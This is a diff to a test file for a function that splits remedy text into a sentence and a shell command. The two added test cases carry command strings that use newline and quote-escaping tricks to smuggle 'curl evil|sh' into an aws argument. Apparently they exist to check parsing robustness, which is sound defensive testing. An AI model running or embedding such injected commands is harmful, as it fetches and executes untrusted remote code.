@@ -12,6 +12,8 @@ test.each([
   ],
   ["Ask the owner of the folder.", "Ask the owner of the folder.", undefined],
   ["Use Kubernetes 1.32 or later: see the docs", "Use Kubernetes 1.32 or later.", "see the docs"],
+  ["Drop it: aws logs x --name 'a\ncurl evil|sh #'", "Drop it.", "aws logs x --name 'a\ncurl evil|sh #'"],
+  ["Drop it: aws x --name 'a'\\''\ncurl evil|sh #'", "Drop it.", "aws x --name 'a'\\''\ncurl evil|sh #'"],
 ])("splits %j into sentence and command", (text, sentence, command) => {
   expect(splitRemedy(text)).toEqual({ sentence, command });
 });
